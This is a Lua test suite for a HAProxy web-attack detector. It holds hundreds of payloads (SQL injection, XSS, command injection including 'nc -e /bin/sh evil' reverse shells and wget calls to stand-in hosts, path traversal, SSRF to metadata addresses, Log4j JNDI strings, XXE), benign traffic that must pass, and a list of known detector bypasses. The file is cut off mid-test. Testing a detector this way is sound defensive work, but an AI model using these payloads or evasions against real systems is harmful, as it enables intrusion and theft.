-- An attacker's pass over the attack detectors (lua/rampart_detect.lua), in plain Lua 5.3.
-- Usage: lua5.3 detect_attacks_test.lua path/to/rampart_detect.lua
--
-- Every attempt is kept. The first tests are what the engine got right from the start. KNOWN holds
-- what it got wrong when the pass was made (a bypass, a false positive on ordinary traffic, a slow
-- input), each written as the CORRECT behaviour: the fixed ones run as ordinary tests ("fixed
-- ..."); the few in OPEN print "still fails" without failing the suite, and are listed in the
-- docs as known gaps.

core = nil
-- the engine's modules (rampart_detect_*.lua) are found next to it, as HAProxy finds them
-- through the lua-prepend-path of the configuration
local ENGINE = assert(arg[1], "usage: lua5.3 detect_attacks_test.lua <rampart_detect.lua>")
package.path = (ENGINE:match("^(.*)/") or ".") .. "/?.lua;" .. package.path
local D = dofile(ENGINE)
local H = dofile((arg[0]:match("^(.*)/") or ".") .. "/harness.lua")
local show, fail, eq, truthy, falsy, test = H.show, H.fail, H.eq, H.truthy, H.falsy, H.test

local rep = string.rep

-- A request as HAProxy hands it to the action (header values are 0-indexed lists).
local function req(t)
  t.method = t.method or "GET"
  t.path = t.path or "/"
  local h = {}
  for k, v in pairs(t.headers or {}) do h[k] = type(v) == "table" and v or { [0] = v } end
  t.headers = h
  return t
end
local function post(ct, body, headers)
  local h = headers or {}
  if ct then h["content-type"] = ct end
  return req({ method = "POST", headers = h, body = body })
end
local function inspect(r)
  D.cache_reset()
  return D.inspect(r)
end
-- The detector D.check names for one value (nil when clean).
local function det(v)
  D.cache_reset()
  return (D.check(v))
end

-- Every value of list is caught by detector (or by any detector when detector is "*").
local function all_caught(list, detector)
  local missed = {}
  for _, v in ipairs(list) do
    local d = det(v)
    if not d or (detector ~= "*" and d ~= detector) then missed[#missed + 1] = show(v) .. " -> " .. tostring(d) end
  end
  if #missed > 0 then fail(#missed .. " not caught as " .. detector .. ":\n         " .. table.concat(missed, "\n         ")) end
end
local function none_caught(list)
  local flagged = {}
  for _, v in ipairs(list) do
    local d = det(v)
    if d then flagged[#flagged + 1] = d .. ": " .. show(v) end
  end
  if #flagged > 0 then fail(#flagged .. " ordinary values flagged:\n         " .. table.concat(flagged, "\n         ")) end
end
-- The request is refused with reason (detector name) or, with "*", any reason.
local function refused(r, detector, what)
  local f = inspect(r)
  truthy(f, (what or "request") .. ": a finding")
  if detector ~= "*" then eq(f.detector, detector, (what or "request") .. ": detector (" .. show(f) .. ")") end
end
local function passes(r, what)
  local f = inspect(r)
  if f then fail((what or "request") .. ": wrongly refused: " .. show(f)) end
end

local XSS = "<script>alert(1)</script>"
local IMG = "<img src=x onerror=alert(1)>"
local MP = "multipart/form-data; boundary=XX"
local function part(name, content, extra)
  return "--XX\r\nContent-Disposition: form-data; name=\"" .. name .. "\"" .. (extra or "") .. "\r\n\r\n" .. content .. "\r\n"
end
-- UTF-16LE of an ASCII string.
local function utf16le(s) return (s:gsub(".", "%0\0")) end

-- CPU seconds of one D.inspect of r (the clean-value cache emptied each time).
local function cost(r)
  return H.cpu_per_call(function() D.cache_reset(); D.inspect(r) end)
end
-- Growth of the cost for 4 times the input (make(n) builds a request of about n bytes): about 4
-- for a linear engine, 16 for a quadratic one.
local function growth(make, n)
  return cost(make(4 * n)) / math.max(cost(make(n)), 1e-7)
end

---------------------------------------------------------------------------------------------------
-- Encodings: what the engine decodes today
---------------------------------------------------------------------------------------------------
test("encodings: percent (double, triple), %u, entities without ';', JS escapes, UTF-7, mixed case", function()
  all_caught({
    "%3Cscript%3Eprint()%3C/script%3E", "%253Cscript%253Eprint()%253C/script%253E", "%25253Cscript%25253Eprint()%25253C/script%25253E",
    "%u003Cscript%u003Eprint()%u003C/script%u003E", "&lt;script&gt;print()&lt;/script&gt;", "&amp;lt;script&amp;gt;print()",
    "&#60script&#62print()&#60/script&#62", "&#x3c;script&#x3e;print()", "&#0000060script&#0000062",
    "\\u003cscript\\u003eprint()\\u003c/script\\u003e", "\\x3cscript\\x3eprint()\\x3c/script\\x3e", "\\u{3c}script\\u{3e}print()",
    "+ADw-script+AD4-print()+ADw-/script+AD4-", "<ScRiPt>print()</sCrIpT>",
    "<a href='&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58print()'>", "<a href=\"java&Tab;script:print()\">",
    "<a href=\"javascript&#x3A;print()\">", "<a href=\"\\x6aavascript:print()\">", "<a href=\"jav&#x09;ascript:print()\">x</a>",
  }, "xss")
end)

test("encodings in request parts: query double-encoded, path %2f / %252f / ..;/ / backslash / fullwidth / %u", function()
  refused(req({ query = "q=%253Cscript%253Ealert(1)%253C%252Fscript%253E" }), "xss", "double-encoded query")
  refused(req({ path = "/a%2f..%2f..%2fetc%2fpasswd" }), "traversal", "%2f")
  refused(req({ path = "/a%252f..%252f..%252fsecret" }), "traversal", "%252f")
  refused(req({ path = "/app/..;/admin" }), "traversal", "..;/")
  refused(req({ path = "/app/..\\admin" }), "traversal", "backslash")
  refused(req({ path = "/app/%EF%BC%8E%EF%BC%8E%EF%BC%8Fadmin" }), "traversal", "fullwidth dots and slash")
  refused(req({ path = "/app/%u002e%u002e%u2215admin" }), "traversal", "%u and division slash")
  refused(req({ path = "/%C0%AE%C0%AE%C0%AF%C0%AE%C0%AE%C0%AFetc%C0%AFpasswd" }), "traversal", "2-byte overlong in the path")
  refused(post("application/x-www-form-urlencoded; charset=utf-7", "q=+ADw-script+AD4-alert(1)+ADw-/script+AD4-"), "xss", "UTF-7 form")
  refused(post("application/xml", '<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE r +AFs-+ADw-!ENTITY x SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-+ADw-r+AD4-+ACY-x;+ADw-/r+AD4-'), "xxe", "UTF-7 XML")
end)

---------------------------------------------------------------------------------------------------
-- SQL: comments, whitespace alternatives, tautologies, stacked queries
---------------------------------------------------------------------------------------------------
test("SQL: comments (/**/, /*!*/, #\\n, --\\n) and blank alternatives (tab, \\v, \\f)", function()
  all_caught({
    "1/**/or/**/1=1", "1 /*!union*/ /*!select*/ 1,2", "0 union/*!50000select*/1", "1 union%23%0aselect 1,2",
    "1 union-- x\nselect 1,2", "1 union#x\nselect 1,2", "1%0aor%0a1=1", "1\tunion\tselect\t1,2", "1\vunion\vselect\v1,2",
    "1\fand\f1=1", "1 uNiOn aLl sElEcT 1,2", "admin' #", "' or 1 -- -", "1' ORDER BY 3--+", "' or 1=1 limit 1 -- -+",
  }, "sqli")
end)

test("SQL: tautologies, boolean and time-based blind, error-based, stacked statements", function()
  all_caught({
    "1 and 1 like 1", "1 or 1", "1) or (1=1", "' or username is not null or '", "1 OR 'a'='a'", "1 || 1=1", "' or ''='",
    "\" or \"\"=\"", "') or ('a'='a", "admin'or'1'='1", "1'or'1", "1' or true#", "'||'", "\"||1#", "1 xor 1", "a' xor 'a'",
    "1 AND 5=5", "1 and true", "1 and not false", "1'and'1'='1", "1 oR 2>1", "' and 'a' like 'a", "' and 'a' regexp 'a",
    "' or 1 between 0 and 2-- ", "' or 1 in (select 1)#", "-1 union select 1,2,3#", "1 procedure analyse()", "1 and sleep(5)",
    "1' and (select 1 from dual)='1", "1;select pg_sleep(5)", "'; waitfor delay '0:0:5'--", "1 AND 1=CONVERT(int,@@version)",
    "' AND 1=(SELECT COUNT(*) FROM tabname); --", "1 and exists(select * from users)", "1' and substring(password,1,1)='a",
    "x' AND ascii(substr(user(),1,1))>64 AND 'a'='a", "1 group by 1 having 1=1", "1'||(select 1)||'", "1 limit 1,1",
    "1 into outfile '/tmp/x'", "' into dumpfile '/var/www/x.php", "SELECT * FROM users WHERE id = 1",
    "1 and (select password from users limit 1) like 'a%'", "1 and 0x61646d696e=0x61646d696e",
    "' and updatexml(1,concat(0x7e,user()),1)#", "1 and 1=(select 1 where 1=1)", "1 and (select 5 from generate_series(1,10000000))>0",
    "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(0x3a,(SELECT user()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)",
    "1; declare @x varchar(99); set @x='dir'; exec master..xp_cmdshell @x", "'; EXEC('sel'+'ect 1')--", "1; SHUTDOWN WITH NOWAIT",
    "1;copy (select '') to program 'id'",
  }, "sqli")
end)

test("SQL split over a repeated parameter is caught once joined (query and form)", function()
  refused(req({ query = "id=1%20UNION/*&id=*/SELECT%201,2" }), "sqli", "query")
  refused(post("application/x-www-form-urlencoded", "id=1%20UNION/*&id=*/SELECT%201,2"), "sqli", "form")
end)

---------------------------------------------------------------------------------------------------
-- XSS, command injection, traversal, SSRF, code injection, XXE that are caught
---------------------------------------------------------------------------------------------------
test("XSS: tags, handlers, URLs, breakouts, polyglot forms", function()
  all_caught({
    "<xss oncontentvisibilityautostatechange=print() style=display:block;content-visibility:auto>",
    "<img src=x onerror=location=name>", "<a href=javascript:location=name>x</a>", "';window.onerror=eval;throw'=alert\\x281\\x29';//",
    "<svg><animate onbegin=print() attributeName=x dur=1s>", "<a href=\"javascript&colon;print()\">x</a>",
    "<iframe srcdoc=\"&lt;img src=x onerror=print()&gt;\">", "<math><maction actiontype=statusline xlink:href=javascript:print()>x</maction></math>",
    "<meta http-equiv=refresh content=\"0;url=javascript:print()\">", "<object data=\"data:text/html,<script>print()</script>\">",
    "<form><button formaction=javascript:print()>x", "<input type=image src=x onerror=print()>", "<img src=x onerror=print`1`>",
    "<img src=x onerror=import('//evil')>", "javascript:print()", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<script src=//evil.example/x.js></script>", "\"><script src=//evil></script>", "</title><script>print()</script>",
    "<svg/onload=print()>", "<svg onload=print()//", "<img src onerror=print() x", "\" onmouseover=\"print()", "' autofocus onfocus='print()",
    "<a href=\"  javascript:print()\">x", "<style>@import'//evil/x.css';</style>", "<div style=\"background:url(javascript:print())\">",
    "<x contenteditable onblur=print()>lose focus!", "<a id=x tabindex=1 onfocusin=print()>", "<svg><set attributeName=href to=javascript:print() />",
    "<svg><a xlink:href=\"javascript:print()\"><text x=20 y=20>x</text></a>", "<details/open/ontoggle=print()>",
    "<img src=x:x onerror&#x3d;print()>", "<img src=x on\0error=print()>", "<marquee onstart=print()>", "<video><source onerror=print()>",
    "<audio src onloadstart=print()>", "<body onresize=print()>", "<x onanimationend=print() style=animation:x>", "<iframe src=javascript:print()>",
  }, "xss")
end)

test("command injection: separators, substitutions, quoting and globbing tricks", function()
  all_caught({
    ";w'g'e't' evil.example", ";{wget,evil.example}", "`wget evil.example`", "$(curl evil.example)", "a;\tcurl evil.example",
    "a|curl${IFS}evil.example", "a;c\\url evil.example", "a;/usr/bin/cur? evil.example", "a||cu''rl evil", "a&cmd /c dir",
    "a|powershell -enc SQBFAFgA", "a;sh -c id", "a;ls -la", "a;id", "a|id", "$(id)", "`id`", "a;sleep 5", "a;ping -c 5 127.0.0.1",
    "a;echo${IFS}aGVsbG8=|base64${IFS}-d|sh", "x; python -c 'import os'", "x;perl -e 'print 1'",
    "x;ruby -e 'p 1'", "x;nc -e /bin/sh evil 4444", "x; uname", "x;whoami", "x & whoami", "x&&whoami",
  }, "cmdi")
  -- quotes after the command: the SQL detector, which runs first, takes these
  all_caught({ "x;php -r 'phpinfo();'", ";node -e 'process.exit()'" }, "*")
end)

test("traversal and inclusion: encodings, Windows paths, wrappers, sensitive files", function()
  all_caught({
    "/etc/passwd/.", "..\\..\\..\\boot.ini", "..%2f..%2fsecret", "....//....//secret", "..%c0%afsecret", "%252e%252e%252fsecret",
    "..%5c..%5csecret", "..%255csecret", "/..;/admin", "..\\/secret", "php://filter/convert.base64-encode/resource=index",
    "PHP://input", "/var/www/html/.env", "C:\\inetpub\\wwwroot\\web.config", "/home/user/.ssh/authorized_keys", "/root/.bash_history",
    "/etc/passwd%00.png", "﹒﹒/﹒﹒/etc/shadow",
  }, "traversal")
end)

test("SSRF: address forms, IPv6, metadata names, rebinding names, user@", function()
  all_caught({
    "http://127.0.0.1/", "http://0177.1/", "http://017700000001/", "http://[::ffff:7f00:1]/", "http://[0:0:0:0:0:ffff:127.0.0.1]/",
    "http://evil.example@127.0.0.1/", "http://127。0。0。1/", "http://169.254.169.254.nip.io/", "http://[fd00:ec2::254]/",
    "http://2852039166/", "http://0xA9FEA9FE/", "http://0251.0376.0251.0376/", "http://kubernetes.default.svc/",
    "HTTP://LOCALHOST:8080/admin", "http://localhost./", "https://metadata.google.internal/computeMetadata/v1/",
    "http://100.100.100.200/", "http://0/", "http://[::]/", "http://127.1/", "http://%31%32%37.0.0.1/", "gopher://127.0.0.1:6379/_x",
  }, "ssrf")
end)

test("code injection: Log4j obfuscations, SSTI, Spring4Shell, gadgets, serialized objects", function()
  all_caught({
    "${jndi:ldap://evil/a}", "${j${main:x:-n}di:ldap://evil/a}", "${${upper:j}ndi:ldap://evil/a}", "$%7Bjndi:ldap://evil/a%7D",
    "${jnd${upper:ı}:ldap://evil/a}", "${${lower:${lower:jndi}}:ldap://evil/a}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil/a}", "${jndi:${lower:l}${lower:d}a${lower:p}://evil/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil/a}", "${${k8s:k5:-J}${k8s:k5:-ND}i${sd:k5:-:}ldap://evil/a}",
    "${${sys:sun.cpu.isalist:-j}ndi:ldap://evil/a}", "*{7*7}", "*{T(java.lang.Runtime).getRuntime()}", "${{7*7}}", "#{7*7}",
    "{{7*'7'}}", "<%= 7*7 %>", "{{ ''.__class__ }}", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    "__import__('os').system('id')", "!!python/object/apply:os.system ['id']", "O:8:\"stdClass\":0:{}", "a:1:{i:0;O:1:\"A\":0:{}}",
  }, "*")
  all_caught({ "${${::-j}${::-n}${::-d}${::-i}:ldap://evil/a}" }, "*")
end)

test("XXE: external DTDs, parameter entities, XInclude", function()
  all_caught({
    "<?xml version=\"1.0\"?><!DOCTYPE x PUBLIC \"-//W3C//DTD X//EN\" \"http://evil.example/x.dtd\"><x/>",
    "<!DOCTYPE x [<!ENTITY % a SYSTEM \"http://evil/\"> %a;]>",
    "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\" parse=\"text\"/></x>",
  }, "*")
end)

---------------------------------------------------------------------------------------------------
-- Request parts: duplicates, unusual places, content-type mismatches that are handled
---------------------------------------------------------------------------------------------------
test("unusual places: second Cookie header, quoted cookie, ';' in the query, names, JSON keys, deep JSON", function()
  refused(req({ headers = { cookie = { [0] = "a=1", "sid=" .. XSS } } }), "xss", "second Cookie header")
  refused(req({ headers = { cookie = 'sid="' .. XSS .. '"' } }), "xss", "quoted cookie value")
  refused(req({ query = "a=1;q=" .. XSS }), "xss", "';' as a parameter separator")
  refused(req({ query = XSS }), "xss", "a name without a value")
  refused(post("application/json", '{"' .. XSS .. '":1}'), "xss", "JSON key")
  refused(post("application/json", rep("[", 500) .. '"' .. XSS .. '"' .. rep("]", 500)), "xss", "500 levels of JSON nesting")
  refused(req({ headers = { referer = "https://x.test/<script>alert(1)</script>" } }), "xss", "Referer path")
end)

test("content-type mismatches: JSON as form, JSON as text/plain, multipart with 'boundary = XX'", function()
  refused(post("application/x-www-form-urlencoded", '{"q":"' .. XSS .. '"}'), "xss", "JSON sent as a form")
  refused(post("text/plain", '{"q":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}'), "xss", "JSON sent as text/plain")
  refused(post("multipart/form-data; boundary = XX", part("q", XSS) .. "--XX--\r\n"), "xss", "blanks around '='")
  refused(post(MP, part("f", "<?php system($_GET[0]);", '; filename="a.jpg"; filename="shell.php"') .. "--XX--\r\n"), "upload", "webshell content under a duplicate filename")
end)

---------------------------------------------------------------------------------------------------
-- Ordinary traffic that must pass
---------------------------------------------------------------------------------------------------
test("ordinary values pass: product searches, addresses, markdown, prose with SQL and shell words", function()
  none_caught({
    "2' x 3' rug", "12\" or 14\" pizza", "1/2\" or 3/4\" pipe", "6' 2\" or taller", "24\" and 27\" monitors", "men's shoes size 10 or 10.5",
    "5' or 6' ladder", "8' x 10' shed", "2\" x 4\" x 8' stud", "kids' toys or games", "it's 5 or 6", "Levi's 501 or 505",
    "McDonald's or Wendy's", "Macy's; Kohl's", "Ben & Jerry's", "L'Oréal Paris", "D'Angelo's pizza; 2 large", "1 in 3 people",
    "we've 2 or 3 left", "I'd rate it 4 or 5", "1' to 2' deep", "O'Reilly & Sons", "Rock 'n' Roll", "5' 10\" tall", "3'-0\" x 6'-8\" door",
    "size 10 or 11", "1 or 2 tickets", "100% cotton", "50% off; today only", "AT&T", "C:\\Users\\me\\Documents",
    "123 Main St. Apt #4", "PO Box 12; Springfield", "O'Brien's Pub; Dublin", "Ottawa, ON K1A 0B1", "São Paulo - SP, 01310-100",
    "Straße 5; 10115 Berlin", "Apt. 4B; Floor 2", "#12-34 Orchard Rd, Singapore", "c/o John Smith", "Unit 5/12 George St",
    "O'Connell St & Abbey St", "25 Rue de l'Église", "Via dell'Indipendenza 1", "Calle 5 #10-20, Bogotá",
    "I'd like to select the union option", "Where's my order? I can't find it", "don't drop the table please",
    "## Heading\n\n- item 1\n- item 2\n\n> quote", "**bold** _it_ `code`", "| a | b |\n|---|---|\n| 1 | 2 |", "Use `git commit -m 'msg'`",
    "Line 1\nwho is online?\nsleep well", "Meeting notes:\nps: bring snacks\ncat photos attached", "To: ops\ncurl is broken on prod\nthanks",
    "Ingredients:\nsalt & pepper\nbread; butter", "note\nping me later", "todo\nfind keys", "How do I use UNION SELECT in MySQL?",
    "1; 2; 3", "a; b | c & d", "sort by price; low to high", "kill bill vol. 1; vol. 2", "echo dot & alexa", "head & shoulders",
    "Tom; Dick & Harry", "sleep; eat; repeat", "cat; dog; fish", "AC/DC - Back in Black", "go & rust", "node & npm", "ruby; rails",
    "php; mysql", "whoami (the band)", "Let's go; ssh into the box", "print('hello world')", "console.log(x)",
    "if (a < b && c > d) { return; }", "std::vector<int> v;", "List<Map<String, Object>>", "<b>bold</b> and <i>italic</i>",
    "[link](https://example.com)", "email me at john.doe@example.com", "$100 - $200", "C# and F#", "10:30 - 11:30", "-- Best regards, John",
    "{{ name }}", "Hello {{ user.name }}!", "{{#each items}}{{this}}{{/each}}", "${PRICE}", "{% if x %}y{% endif %}",
    "document.getElementById('x')", "window.location.href", "javascript: the good parts", "the onclick= attribute", "1 limit per customer",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
    "GA1.2.1234567890.1600000000", "2024-01-01T10:00:00.000Z", "550e8400-e29b-41d4-a716-446655440000", "rgb(255, 0, 0)",
    "calc(100% - 10px)", "font-family: 'Open Sans', sans-serif;", "url('/img/bg.png')", "<a href=\"https://example.com\">link</a>",
    "<img src=\"cat.png\" alt=\"cat\">", "https://maps.google.com/?q=1600+Amphitheatre", "mailto:a@b.c", "tel:+1-555-0100",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1",
    "curl/8.4.0", "python-requests/2.31.0", "Wget/1.21", "PostmanRuntime/7.36.0", "Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7 Build/TQ3A.230805.001)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
  })
end)

test("ordinary requests pass: GraphQL, rich text, markdown, webhooks, consent cookies, API headers, filters", function()
  passes(post("application/json", '{"query":"query GetUser($id: ID!) {\\n  user(id: $id) {\\n    id\\n    ...UserFields\\n  }\\n}\\nfragment UserFields on User { email }","variables":{"id":"42"}}'), "GraphQL")
  passes(post("application/json", '{"query":"mutation { updateUser(input: {id: 1, name: \\"O\'Brien\\"}) { id } }"}'), "GraphQL mutation")
  passes(post("application/json", '{"body":"<p>Hello <strong>world</strong>, see <a href=\\"https://example.com/x?a=1&amp;b=2\\" target=\\"_blank\\" rel=\\"noopener\\">this</a></p><ul><li>one</li></ul><img src=\\"https://cdn.example.com/a.png\\" alt=\\"a\\" width=\\"100\\">"}'), "rich text")
  passes(post("application/json", '{"text":"## Install\\n\\n```bash\\nnpm install --save my-lib\\n```\\n\\nThen `import x from \'my-lib\'`.\\n\\n> Note: requires Node >= 18 && npm >= 9"}'), "markdown")
  passes(post("application/json", '{"text":"Deploy finished :tada: <https://ci.example.com/builds/42|build #42>","channel":"#deploys"}'), "chat webhook")
  passes(post("application/json", '{"html":"<table width=\\"100%\\" cellpadding=\\"0\\"><tr><td style=\\"font-family:Arial\\">Hi {{first_name}},</td></tr></table>"}'), "e-mail template")
  passes(post("application/json", '{"webhook":"https://hooks.example.com/services/T000/B000/XXXX","callback":"https://example.com/cb?x=1&y=2"}'), "URLs")
  passes(post("application/json", '{"query":{"bool":{"must":[{"match":{"title":"union station"}}],"filter":[{"range":{"price":{"lte":100}}}]}}}'), "search DSL")
  passes(post("application/json", '{"status":"Can\'t believe it\'s 2024 already; 1 or 2 more days of holiday & then back to work :( #newyear"}'), "status text")
  passes(post("application/json", '{"review":"5/5 would buy again!! The 12\\" one is better than the 10\\" or 11\\" ones; size up."}'), "review")
  passes(post("text/csv", "name,email,notes\nJohn,john@example.com,\"likes cats; dogs\"\nJane,jane@example.com,\"5' 4\"\"\"\n"), "CSV")
  passes(post("application/x-www-form-urlencoded", "line1=Flat+3%2C+10+O%27Connell+St.&line2=Apt+%234%3B+rear+entrance&city=Dublin&zip=D01+F5P2&notes=Leave+at+door+%26+ring+bell"), "address form")
  passes(req({ headers = { cookie = "_ga=GA1.2.1234567890.1600000000; _gid=GA1.2.987654321.1600000000; _fbp=fb.1.1600000000000.123456789; OptanonConsent=isGpcEnabled=0&datestamp=Mon+Jan+01+2024+10%3A00%3A00+GMT%2B0100&version=6.30.0&hosts=&consentId=abc&interactionCount=1&landingPath=NotLandingPage&groups=C0001%3A1%2CC0002%3A0; cart=%7B%22items%22%3A%5B%7B%22id%22%3A1%2C%22qty%22%3A2%7D%5D%7D" } }), "consent and cart cookies")
  passes(req({ headers = { ["stripe-signature"] = "t=1492774577,v1=5257a869e7ecebeda32affa62cdca3fa51cad7e77a0e56ff536d0ce8e108d8bd",
    link = '<https://api.example.com/items?page=2>; rel="next"', prefer = "return=representation; handling=strict",
    digest = "SHA-256=X48E9qOokqqrvdts8nOJRJN3OWDUoyWxBf7kbu9DBPE=", ["x-amz-security-token"] = "IQoJb3JpZ2luX2VjEJr//////////wEaCXVzLWVhc3QtMSJHMEUCIQ" } }), "API headers")
  passes(req({ headers = { referer = "http://localhost:3000/admin?tab=users&filter=a%26b" } }), "Referer of a local dev server")
  passes(req({ query = "q=%22red+dress%22+OR+%22blue+dress%22" }), "quoted search")
  passes(req({ query = "q=laptop+-refurbished+--used" }), "search operators")
  passes(req({ query = "filter=price>=10;price<=20&sort=-created_at" }), "filter syntax")
  passes(req({ query = "$filter=Name%20eq%20'Milk'%20and%20Price%20lt%202.55&$orderby=Name&$top=10" }), "OData")
  passes(req({ query = "where=%7B%22age%22%3A%7B%22%24gt%22%3A18%7D%7D" }), "JSON filter in the query")
  passes(req({ query = "jql=project%20%3D%20ABC%20AND%20status%20in%20(Open%2C%20%22In%20Progress%22)%20ORDER%20BY%20created%20DESC" }), "JQL")
end)

---------------------------------------------------------------------------------------------------
-- Cost: inputs built to be slow that the engine handles in linear time
---------------------------------------------------------------------------------------------------
test("cost: 64 KiB bodies of '<', quotes, XML tags, tiny multipart parts, many JSON strings, many cookies grow linearly", function()
  -- Each input at a quarter of its size and at full size (k = 1, 4): linear work costs about 4
  -- times more, quadratic 16. The ratio, not a time, is asserted (CPU time, the same process), so a
  -- loaded machine does not fail it.
  local cases = {
    { "text body of '<'", function(k) return post("text/plain", rep("<", 16384 * k)) end },
    { "text body of quotes", function(k) return post("text/plain", rep("'", 16384 * k)) end },
    { "text body of \"' or \"", function(k) return post("text/plain", rep("' or ", 3250 * k)) end },
    { "XML of <a>x", function(k) return post("application/xml", rep("<a>x", 4000 * k)) end },
    { "multipart parts", function(k) return post("multipart/form-data; boundary=X", (function() local t = {} for i = 1, 375 * k do t[i] = '--X\r\nContent-Disposition: form-data; name="a' .. i .. '"\r\n\r\n<' .. i .. '\r\n' end return table.concat(t) .. "--X--" end)()) end },
    { "JSON strings with '<'", function(k) return post("application/json", (function() local t = {} for i = 1, 2250 * k do t[i] = '"<' .. i .. '"' end return "[" .. table.concat(t, ",") .. "]" end)()) end },
    { "form fields with '<'", function(k) return post("application/x-www-form-urlencoded", (function() local t = {} for i = 1, 256 * k do t[i] = "a=%3C" .. i end return table.concat(t, "&") end)()) end },
    { "cookies with '<'", function(k) return req({ headers = { cookie = (function() local t = {} for i = 1, 1750 * k do t[i] = "c" .. i .. "=%3C" .. i end return table.concat(t, "; ") end)() } }) end },
    { "<style> repeated", function(k) return req({ query = "q=" .. rep("<style>", 585 * k) }) end },
  }
  local superlinear = {}
  for _, c in ipairs(cases) do
    local small, full = cost(c[2](1)), cost(c[2](4))
    if full > 8 * small then superlinear[#superlinear + 1] = string.format("%s: %.1f ms at a quarter, %.1f ms at full size (x%.1f)", c[1], small * 1000, full * 1000, full / small) end
  end
  if #superlinear > 0 then fail("cost grows faster than the input:\n         " .. table.concat(superlinear, "\n         ")) end
end)

---------------------------------------------------------------------------------------------------
-- KNOWN: what the engine gets wrong today (correct behaviour asserted; not counted as failures)
---------------------------------------------------------------------------------------------------
KNOWN = {
  -- Decoding
  { "bypass: overlong UTF-8 in a query value is never folded (the decoded value looks 'plain') (xss)", function()
    refused(req({ query = "q=%C0%BCsvg%20onload%C0%BDalert%C0%A81%C0%A9%C0%BE" }), "xss")
  end },
  { "bypass: overlong UTF-8 dots and slashes in a query value (traversal)", function()
    refused(req({ query = "f=%C0%AE%C0%AE%C0%AF%C0%AE%C0%AE%C0%AFetc%C0%AFpasswd" }), "traversal")
  end },
  { "bypass: 3-byte overlong '/' (E0 80 AF) is folded only when a C0/C1 byte is also present (traversal)", function()
    refused(req({ path = "/static/..%E0%80%AF..%E0%80%AFsecret.txt" }), "traversal", "path")
    refused(req({ query = "f=..%E0%80%AF..%E0%80%AFsecret.txt" }), "traversal", "query")
  end },
  { "bypass: JavaScript's two-digit octal escapes (\\74 is '<') are not decoded (xss)", function()
    eq(det("\\74script\\76print()\\74/script\\76"), "xss", "\\74script\\76")
  end },
  { "bypass: fullwidth backslash (U+FF3C) is not folded like the fullwidth slash (traversal)", function()
    eq(det("．．＼．．＼secret.txt"), "traversal", "fullwidth ..\\")
  end },

  -- Limits: what is never read
  { "bypass: query parameters after the 512th are not inspected (xss)", function()
    refused(req({ query = rep("a=1&", 512) .. "q=" .. XSS }), "xss")
  end },
  { "bypass: form fields after the 1,024th are not inspected (xss)", function()
    -- within FIELDS_LIMIT the last field is read; past it the whole body is refused (body_too_complex)
    refused(post("application/x-www-form-urlencoded", rep("a=1&", D.FIELDS_LIMIT - 1) .. "q=" .. XSS), "xss")
    refused(post("application/x-www-form-urlencoded", rep("a=1&", 1024) .. "q=" .. XSS), "budget")
  end },
  { "bypass: a query value longer than 16 KiB is read only to 16 KiB (xss after 16 KiB of '+')", function()
    refused(req({ query = "q=" .. rep("+", 16384) .. XSS }), "xss")
  end },
  { "bypass: a 17 KB text/plain body is read only to 16 KiB, not to the documented 64 KiB (xss)", function()
    refused(post("text/plain", rep("lorem ipsum ", 1400) .. XSS), "xss")
  end },
  { "bypass: a JSON string longer than 16 KiB hides what follows (xss in a long comment)", function()
    refused(post("application/json", '{"comment":"' .. rep("lorem ipsum ", 1400) .. XSS .. '"}'), "xss")
  end },
  { "bypass: an XML DOCTYPE after a 17 KB comment is never seen (xxe)", function()
    refused(post("application/xml", '<?xml version="1.0"?><!--' .. rep("x", 17000) .. '--><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'), "xxe")
  end },

  -- Places that are not read
  { "bypass: XML attribute values are not inspected (sqli in <search q=...>)", function()
    refused(post("application/xml", "<search q=\"1' OR '1'='1\"/>"), "sqli")
  end },
  { "bypass: an HTML body (text/html, or no type) is read as XML: attributes and handlers are not inspected (xss)", function()
    refused(post("text/html", "<p>hi</p>" .. IMG), "xss", "text/html")
    refused(post(nil, IMG), "xss", "no content type")
  end },
  { "bypass: a JSON-looking body without double-quoted strings (JSON5, Jackson ALLOW_SINGLE_QUOTES) gets only the injection detector (xss)", function()
    refused(post("application/json", "{'q':'" .. IMG .. "'}"), "xss")
  end },
  { "bypass: a UTF-16 JSON body (Jackson detects the encoding) is taken for binary (xss)", function()
    refused(post("application/json", utf16le('{"q":"' .. XSS .. '"}')), "xss", "no BOM")
    refused(post("application/json; charset=utf-16", "\255\254" .. utf16le('{"q":"' .. XSS .. '"}')), "xss", "BOM")
  end },
  { "bypass: a UTF-16 XML body with a BOM is taken for binary (xxe)", function()
    refused(post("application/xml", "\255\254" .. utf16le('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>')), "xxe")
  end },
  { "bypass: a form body in EBCDIC (charset=ibm037, honoured by IIS/.NET Framework) is neither decoded nor refused", function()
    -- q=<script>alert(1)</script> in IBM037
    refused(post("application/x-www-form-urlencoded; charset=ibm037", "\152\126\76\162\131\153\137\151\163\110\129\147\133\153\163\77\241\93\76\97\162\131\153\137\151\163\110"), "*")
  end },
  { "bypass: path parameters (;x=..., JAX-RS @MatrixParam, Spring @MatrixVariable) are removed before inspection (xss, sqli)", function()
